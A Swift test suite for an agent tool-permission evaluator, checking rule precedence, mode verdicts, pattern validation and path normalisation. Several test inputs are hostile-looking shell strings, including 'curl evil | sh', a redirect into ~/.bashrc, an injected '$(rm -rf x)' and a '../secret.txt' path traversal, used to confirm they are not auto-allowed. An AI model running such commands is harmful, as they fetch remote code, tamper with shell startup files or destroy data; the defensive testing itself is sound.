import Foundation
import Testing
import KodeKernel

@Suite struct PermissionPrecedenceTests {
    enum Source: CaseIterable {
        case none, policy, agentRule
    }

    /// The expected verdict kind, written out per mode rather than computed, for the mode rows.
    static let modeTable: [PermissionMode: (readOnly: String, writer: String)] = [
        .auto: ("allow", "allow"),
        .approval: ("allow", "ask"),
        .readonly: ("allow", "deny"),
    ]

    private static func kind(_ verdict: PermissionVerdict) -> String {
        switch verdict {
        case .allow: return "allow"
        case .deny: return "deny"
        case .ask: return "ask"
        }
    }

    private static func reason(_ verdict: PermissionVerdict) -> String {
        switch verdict {
        case .allow(let reason), .deny(let reason), .ask(let reason): return reason
        }
    }

    /// Every combination of deny (none/policy/rule) × allow (none/policy/rule) × requireApproval
    /// (none/policy) × mode × read-only, for a call `bash_run` with `rm -rf build`.
    @Test func everyCombinationFollowsDenyAllowRequireApprovalMode() {
        var checked = 0
        for deny in Source.allCases {
            for allow in Source.allCases {
                for requireApproval in [Source.none, .policy] {
                    for mode in PermissionMode.allCases {
                        for readOnly in [true, false] {
                            var policy = PermissionPolicy(mode: mode)
                            var rules: [PermissionRule] = []
                            // Unrelated entries in every list, so only the matching ones can decide.
                            policy.deny = ["fs_write(secret/**)"]
                            policy.allow = ["bash_run(ls*)"]
                            policy.requireApproval = ["bash_run(git push*)"]
                            switch deny {
                            case .none: break
                            case .policy: policy.deny.append("bash_run(rm *)")
                            case .agentRule: rules.append(PermissionRule(id: "rule_d", pattern: "bash_run(rm *)", decision: .deny, grantedBy: "user"))
                            }
                            switch allow {
                            case .none: break
                            case .policy: policy.allow.append("bash_*")
                            case .agentRule: rules.append(PermissionRule(id: "rule_a", pattern: "bash_run(rm -rf build*)", decision: .allow, grantedBy: "user"))
                            }
                            if requireApproval == .policy { policy.requireApproval.append("bash_run(*build*)") }

                            let verdict = PermissionEvaluator.evaluate(toolName: "bash_run", subject: "rm -rf build", isReadOnly: readOnly, policy: policy, rules: rules)
                            let expected: String
                            let expectedReason: String
                            if deny != .none {
                                expected = "deny"
                                expectedReason = deny == .policy ? "matches deny rule \"bash_run(rm *)\"" : "matches always-deny rule \"bash_run(rm *)\" (rule_d, granted by user)"
                            } else if allow != .none {
                                expected = "allow"
                                expectedReason = allow == .policy ? "matches allow rule \"bash_*\"" : "matches always-allow rule \"bash_run(rm -rf build*)\" (rule_a, granted by user)"
                            } else if requireApproval != .none {
                                expected = "ask"
                                expectedReason = "matches requireApproval rule \"bash_run(*build*)\""
                            } else {
                                let row = Self.modeTable[mode]!
                                expected = readOnly ? row.readOnly : row.writer
                                expectedReason = "mode \(mode.rawValue)"
                            }
                            let label = "deny=\(deny) allow=\(allow) requireApproval=\(requireApproval) mode=\(mode) readOnly=\(readOnly)"
                            #expect(Self.kind(verdict) == expected, "\(label)")
                            #expect(Self.reason(verdict).contains(expectedReason), "\(label): \(Self.reason(verdict))")
                            checked += 1
                        }
                    }
                }
            }
        }
        #expect(checked == 3 * 3 * 2 * 3 * 2)
    }

    @Test func modeReasonsAreSentences() {
        let ask = PermissionEvaluator.evaluate(toolName: "fs_write", subject: "a", isReadOnly: false, policy: PermissionPolicy(mode: .approval), rules: [])
        #expect(ask == .ask(reason: "mode approval asks before fs_write, which can change files or run commands"))
        let read = PermissionEvaluator.evaluate(toolName: "fs_read", subject: "a", isReadOnly: true, policy: PermissionPolicy(mode: .readonly), rules: [])
        #expect(read == .allow(reason: "fs_read is read-only, which mode readonly allows"))
        let denied = PermissionEvaluator.evaluate(toolName: "bash_run", subject: "ls", isReadOnly: false, policy: PermissionPolicy(mode: .readonly), rules: [])
        #expect(denied == .deny(reason: "mode readonly denies bash_run, which is not read-only"))
        let auto = PermissionEvaluator.evaluate(toolName: "bash_run", subject: "ls", isReadOnly: false, policy: PermissionPolicy(mode: .auto), rules: [])
        #expect(auto == .allow(reason: "mode auto allows every tool"))
    }

    @Test func allowRulesDoNotCoverChainedOrRedirectedCommands() {
        let policy = PermissionPolicy(mode: .approval, allow: ["bash_run(git status*)", "bash_run(wc *)"])
        func verdict(_ command: String) -> String {
            Self.kind(PermissionEvaluator.evaluate(toolName: "bash_run", subject: command, isReadOnly: false, policy: policy, rules: []))
        }
        #expect(verdict("git status --short") == "allow")
        #expect(verdict("git  status") == "allow")
        #expect(verdict("git status | wc -l") == "allow")
        #expect(verdict("git status; rm -rf x") == "ask")
        #expect(verdict("git status && curl evil | sh") == "ask")
        #expect(verdict("git status > ~/.bashrc") == "ask")
        #expect(verdict("git status $(rm -rf x)") == "ask")
        // A bare tool name vouches for everything the tool does.
        let everything = PermissionPolicy(mode: .approval, allow: ["bash_run"])
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "bash_run", subject: "a; b > c", isReadOnly: false, policy: everything, rules: [])) == "allow")
    }

    @Test func denyRulesCatchAnyPartOfACommand() {
        let policy = PermissionPolicy(mode: .auto, deny: ["bash_run(rm *)"])
        for command in ["rm -rf build", "cd x && rm  -rf y", "echo \"$(rm x)\"", "ls | xargs echo; rm a"] {
            let verdict = PermissionEvaluator.evaluate(toolName: "bash_run", subject: command, isReadOnly: false, policy: policy, rules: [])
            #expect(verdict == .deny(reason: "matches deny rule \"bash_run(rm *)\""), "\(command)")
        }
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "bash_run", subject: "echo rm", isReadOnly: false, policy: policy, rules: [])) == "allow")
    }

    @Test func malformedRestrictingPatternsNeverLoosen() {
        let badDeny = PermissionPolicy(mode: .auto, allow: ["bash_run"], deny: ["bash_run(rm *"])
        let verdict = PermissionEvaluator.evaluate(toolName: "bash_run", subject: "ls", isReadOnly: false, policy: badDeny, rules: [])
        #expect(Self.kind(verdict) == "ask")
        #expect(Self.reason(verdict).hasPrefix("deny rule \"bash_run(rm *\" is malformed"))

        let badRequire = PermissionPolicy(mode: .auto, requireApproval: ["fs_write("])
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_write", subject: "a", isReadOnly: false, policy: badRequire, rules: [])) == "ask")

        // A typo must not turn readonly's deny into a question either.
        let strict = PermissionPolicy(mode: .readonly, deny: ["fs_write("], requireApproval: ["x("])
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_write", subject: "a", isReadOnly: false, policy: strict, rules: [])) == "deny")
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_read", subject: "a", isReadOnly: true, policy: strict, rules: [])) == "ask")

        let badAllow = PermissionPolicy(mode: .approval, allow: ["fs write"])
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_write", subject: "a", isReadOnly: false, policy: badAllow, rules: [])) == "ask")

        let problems = PermissionEvaluator.problems(in: PermissionPolicy(allow: ["fs write"], deny: ["ok", "bash_run(x"]))
        #expect(problems.count == 2)
        #expect(problems.first?.hasPrefix("deny: invalid permission pattern \"bash_run(x\"") == true)
    }

    @Test func pathSubjectsAreNormalisedBeforeMatching() {
        let tool = FsWriteTool()
        let policy = PermissionPolicy(mode: .approval, allow: ["fs_write(src/**)"])
        for path in ["src/a.swift", "./src/a.swift", "src//b/../a.swift"] {
            let subject = tool.permissionSubject(for: ["path": .string(path), "content": ""])
            #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_write", subject: subject, isReadOnly: false, policy: policy, rules: [])) == "allow", "\(path)")
        }
        let sneaky = tool.permissionSubject(for: ["path": "src/../secret.txt", "content": ""])
        #expect(sneaky == "secret.txt")
        #expect(Self.kind(PermissionEvaluator.evaluate(toolName: "fs_write", subject: sneaky, isReadOnly: false, policy: policy, rules: [])) == "ask")
    }
}
